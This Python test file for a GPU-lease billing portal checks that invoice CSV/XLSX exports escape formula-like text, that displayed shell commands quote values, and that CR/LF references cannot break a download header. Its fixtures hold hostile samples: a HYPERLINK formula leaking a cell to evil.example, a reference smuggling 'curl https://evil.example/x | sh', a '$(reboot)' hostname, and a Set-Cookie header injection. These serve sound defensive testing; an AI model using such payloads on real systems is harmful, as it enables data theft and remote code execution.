"""Exports and copy-paste lines that cannot be turned into code (issue 30, item 4).

A tenant's legal name and lease references stored before references were checked (the
model refuses them now, so these rows are written with .update(), as a legacy row would
be) begin with =, +, @, a tab or a minus sign. In the invoice's CSV each such text cell
carries a leading single quote; in the XLSX it is a string cell holding the exact text,
never a formula. The SLA credit, a negative amount, stays a number in both. The SLA page's
gpulease-verify line and the guide's mpirun line give each value back as one shell word,
and a reference with CR/LF still downloads under a name that cannot break the header.

The invoice: rent 45,000.00 + network 22,000.00 - SLA credit 2,200.00 = 64,800.00, 6 %
tax 3,888.00, total 68,688.00."""

import csv
import html
import io
import re
import shlex
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from accounts.choices import Role
from billing import audit
from billing.choices import LineKind
from billing.models import Invoice
from leases.models import Lease, Node, Tenant
from tests.factories import MembershipFactory, NodeFactory, at, make_lease
from tests.portal.support import active, client_for, month_line

pytestmark = pytest.mark.django_db

LEGAL_NAME = '=HYPERLINK("https://evil.example/?"&B9,"Details")'
PHONE = "+86 755 1234 5678"
# (legacy reference, kind, description, amount)
LINES = [
    ("=2+5", LineKind.NODE_RENT, "@SUM(1,1)", Decimal("45000.00")),
    ("+2+5", LineKind.NETWORK_FEE, "\t=1+1", Decimal("22000.00")),
    ("@SUM(2,5)", LineKind.SLA_CREDIT, "-10 % of the network fee", Decimal("-2200.00")),
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def legacy(lease: Lease, reference: str) -> Lease:
    Lease.objects.filter(pk=lease.pk).update(reference=reference)
    lease.refresh_from_db()
    return lease


@pytest.fixture
def member():
    membership = MembershipFactory(role=Role.ADMIN, tenant__slug="zhiyuan")
    Tenant.objects.filter(pk=membership.tenant_id).update(
        legal_name=LEGAL_NAME, invoice_phone=PHONE
    )
    return membership


@pytest.fixture
def invoice(member):
    invoice = Invoice.objects.create(
        tenant=member.tenant,
        period="2026-10",
        period_start=at("2026-10-01 00:00"),
        period_end=at("2026-11-01 00:00"),
        subtotal=Decimal("64800.00"),
        tax=Decimal("3888.00"),
        total=Decimal("68688.00"),
        tax_rate_percent=Decimal("6.00"),
    )
    for position, (reference, kind, description, amount) in enumerate(LINES, start=1):
        lease = legacy(make_lease(tenant=member.tenant, reference=f"L-{position}"), reference)
        month_line(invoice, position, lease, kind, description, amount)
    return invoice


def test_the_csv_quotes_formula_like_text_and_keeps_numbers_numbers(member, invoice):
    response = client_for(member.user).get(f"/invoices/{invoice.pk}.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode().removeprefix("\ufeff"))))
    lines = rows[1:4]
    assert [row[1] for row in lines] == ["'=2+5", "'+2+5", "'@SUM(2,5)"]  # the lease
    assert [row[3] for row in lines] == ["'@SUM(1,1)", "'\t=1+1", "'-10 % of the network fee"]
    assert [row[7] for row in lines] == ["45000.00", "22000.00", "-2200.00"]  # amounts
    assert [row[4] for row in lines] == ["1", "1", "1"]  # quantities
    # Whatever cell begins like a formula is a plain number: -2200.00, -132.00 (its tax).
    risky = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert risky and all(re.fullmatch(r"-\d+\.\d+", cell) for cell in risky), risky


@pytest.mark.parametrize("route", ["portal", "api"])
def test_the_xlsx_has_no_formula_and_keeps_the_exact_text(member, invoice, route):
    client = client_for(member.user)
    if route == "portal":
        response = client.get(f"/invoices/{invoice.pk}.xlsx")
    else:
        response = client.get(f"/api/v1/invoices/{invoice.pk}/xlsx/", HTTP_ACCEPT=XLSX)
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    by_value = {cell.value: cell for cell in cells}
    name = by_value[LEGAL_NAME]
    assert (name.data_type, name.quotePrefix) == ("s", True)
    assert any(str(cell.value).endswith(PHONE) for cell in cells)
    for reference, *_rest in LINES:
        cell = by_value[reference]
        assert (cell.data_type, cell.quotePrefix) == ("s", True), reference
    credit = sheet.cell(by_value["@SUM(2,5)"].row, 7)  # 金额, the amount
    assert (credit.value, credit.data_type) == (-2200, "n")


def test_the_verify_command_gives_the_reference_back_as_one_word(member):
    reference = "ZY-1; curl https://evil.example/x | sh; echo "
    lease = legacy(
        active(make_lease(tenant=member.tenant, reference="ZY-1", nodes=[NodeFactory()])), reference
    )
    page = client_for(member.user).get(f"/leases/{lease.pk}/sla/?period=2026-11")
    assert page.status_code == 200
    (line,) = re.findall(r'<pre class="verify-command"><code>(.*?)</code></pre>', page.text)
    fingerprint = audit.published_key_info()["fingerprint"]
    assert shlex.split(html.unescape(line)) == [
        "gpulease-verify",
        f"{reference}-2026-11-audit.json",
        "--fingerprint",
        fingerprint,
    ]


def test_the_mpirun_line_gives_the_host_list_back_as_one_word(member):
    nodes = [NodeFactory(hostname="gz-h800-01"), NodeFactory(hostname="gz-h800-02")]
    lease = active(make_lease(tenant=member.tenant, reference="ZY-2", nodes=nodes))
    Node.objects.filter(pk=nodes[1].pk).update(hostname="n2 $(reboot)")  # a legacy row
    page = client_for(member.user).get(f"/leases/{lease.pk}/evidence/new/")
    (command,) = re.findall(r'<pre class="lease-mpirun">(.*?)</pre>', page.text, re.S)
    words = shlex.split(html.unescape(command))
    assert words[:5] == ["mpirun", "-np", "16", "-H", "gz-h800-01:8,n2 $(reboot):8"]
    assert words[-9:] == ["all_reduce_perf", "-b", "8", "-e", "8G", "-f", "2", "-g", "1"]


def test_a_reference_with_cr_lf_downloads_under_a_percent_encoded_name(member):
    lease = legacy(
        active(make_lease(tenant=member.tenant, reference="ZY-3", nodes=[NodeFactory()])),
        "ZY-3\r\nSet-Cookie: a=1",
    )
    response = client_for(member.user).get(f"/leases/{lease.pk}/audit/2026-11.json")
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''ZY-3%0D%0ASet-Cookie%3A%20a%3D1-2026-11-audit.json"
    )
